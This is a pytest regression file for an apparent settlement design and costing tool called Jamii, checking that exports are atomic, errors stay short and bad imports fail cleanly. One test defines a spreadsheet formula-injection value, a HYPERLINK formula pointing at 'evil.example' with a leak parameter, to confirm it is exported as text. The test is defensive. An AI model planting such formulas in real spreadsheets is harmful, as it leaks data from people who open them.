"""Exports are all-or-nothing and carry no live formula a user did not ask Jamii for."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest
from openpyxl import load_workbook

from designer.cli import main
from designer.io.project_file import save_project
from designer.model.commands import ReplaceRecord
from tests.io.drawing_fixtures import small_settlement

HYPERLINK = '=HYPERLINK("http://evil.example/?leak","Open the bill")'


def test_a_project_name_starting_with_equals_is_text_in_the_bill_xlsx(tmp_path, capsys):
    """Was: a live HYPERLINK formula in the bill's XLSX."""
    doc = small_settlement()
    ReplaceRecord(doc.project, dataclasses.replace(doc.project, name=HYPERLINK), "rename").do(doc)
    project = tmp_path / "p.jamii"
    save_project(doc, project)
    out = tmp_path / "bill.xlsx"
    assert main(["export", str(project), "--option", "opt-a", "--xlsx", str(out)]) == 0, (
        capsys.readouterr().err
    )
    wb = load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    formulas = [str(c.value) for c in cells if c.data_type == "f"]
    assert formulas and all("HYPERLINK" not in f for f in formulas)
    assert any(f.startswith("=ROUND(") for f in formulas)  # Jamii's own Amount formulas stay
    assert HYPERLINK in {c.value for c in cells}


def test_costdb_export_that_fails_leaves_no_file(tmp_path, capsys, monkeypatch):
    """Was: a 0-byte workbook when the disk filled during `costdb export`."""
    import costing.db.io_tables as io_tables

    def half_then_full(data, out):
        out.write_bytes(b"PK\x03\x04half")
        raise OSError(28, "No space left on device", str(out))

    monkeypatch.setattr(io_tables, "_write_xlsx", half_then_full)
    out = tmp_path / "lib.xlsx"
    assert main(["costdb", "export", "jamii-default", str(out)]) == 2
    assert "No space left on device" in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []


def test_costdb_export_to_a_folder_replaces_whole_tables(tmp_path, capsys):
    out = tmp_path / "tables"
    assert main(["costdb", "export", "jamii-default", str(out)]) == 0
    first = {p.name: p.read_bytes() for p in out.iterdir()}
    assert "assembly.csv" in first
    assert main(["costdb", "export", "jamii-default", str(out)]) == 0
    assert {p.name: p.read_bytes() for p in out.iterdir()} == first
    assert [p.name for p in tmp_path.iterdir()] == ["tables"]


def test_house_plan_dxf_that_fails_keeps_the_previous_file(tmp_path, monkeypatch):
    """Was: a 0-byte house-plan DXF on a full disk."""
    import ezdxf.document

    out = tmp_path / "plans.dxf"
    out.write_text("previous", encoding="utf-8")

    def full_disk(self, filename=None, **_kw):
        Path(filename).write_text("0\nSECTION\n", encoding="utf-8")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(ezdxf.document.Drawing, "saveas", full_disk)
    with pytest.raises(OSError, match="No space left"):
        _plan(out)
    assert out.read_text(encoding="utf-8") == "previous"
    assert [p.name for p in tmp_path.iterdir()] == ["plans.dxf"]


def _plan(out):
    from designer.io.house_library import load_library
    from designer.render.house_dxf import write_house_plans_dxf

    lib = load_library(None)
    write_house_plans_dxf([lib.get("core-1room")], out)


def test_an_error_quoting_a_huge_value_stays_one_short_line(tmp_path, capsys):
    """Was: an error message echoed a 50 MB value."""
    import json

    from designer.io.project_file import document_to_json

    data = document_to_json(small_settlement())
    data["records"]["path"][0]["surface"] = "x" * 1_000_000 + "\ny"  # an enum: the message quotes it
    path = tmp_path / "p.jamii"
    path.write_text(json.dumps(data), encoding="utf-8")
    assert main(["info", str(path)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and len(err) < 600 and str(path) in err


def test_a_gis_import_whose_every_feature_is_invalid_exits_2(tmp_path, capsys):
    """Was: "added nothing" and exit 0."""
    src = tmp_path / "bad.geojson"
    ring = [[36.816, -1.302], [36.8162, -1.3018], [36.8162, -1.302], [36.816, -1.3018], [36.816, -1.302]]
    src.write_text(
        '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"kind":"plot"},'
        f'"geometry":{{"type":"Polygon","coordinates":[{ring}]}}}}]}}',
        encoding="utf-8",
    )
    project = tmp_path / "p.jamii"
    assert main(["import-base", str(project), "--from", str(src)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "nothing could be imported" in err
    assert not project.exists()


def test_replace_with_a_bad_rate_keeps_the_working_library(tmp_path, capsys):
    """Was: `--replace` turned a working library into one whose every costing raised InvalidOperation."""
    good = tmp_path / "good.csv"
    good.write_text("code,description,unit,rate,source\nA1,Trench,cum,1250.50,DSR\n", encoding="utf-8")
    bad = tmp_path / "bad.csv"
    bad.write_text('code,description,unit,rate,source\nA1,Trench,cum,"1,2,3",DSR\n', encoding="utf-8")
    meta = ["--currency", "KES", "--region", "base", "--price-base", "2026-01-01", "--source", "t"]
    assert main(["costdb", "import", str(good), "--name", "county", *meta]) == 0
    assert main(["costdb", "import", str(bad), "--name", "county", "--replace", *meta]) == 2
    assert "'1,2,3' is not a number" in capsys.readouterr().err
    assert main(["costdb", "show", "county", "--code", "A1", "--format", "json"]) == 0
    assert '"1250.50"' in capsys.readouterr().out


def test_a_bug_is_one_line_with_exit_3_and_a_traceback_only_on_request(capsys, monkeypatch):
    import designer.cli.cmd_info as cmd_info

    def broken(_args):
        raise ZeroDivisionError("division by zero")

    monkeypatch.setattr(cmd_info, "run", broken)  # the parser is built per call and binds it
    assert main(["info", "x.jamii"]) == 3
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "internal error: ZeroDivisionError: division by zero" in err
    monkeypatch.setenv("JAMII_DEBUG", "1")
    with pytest.raises(ZeroDivisionError):
        main(["info", "x.jamii"])
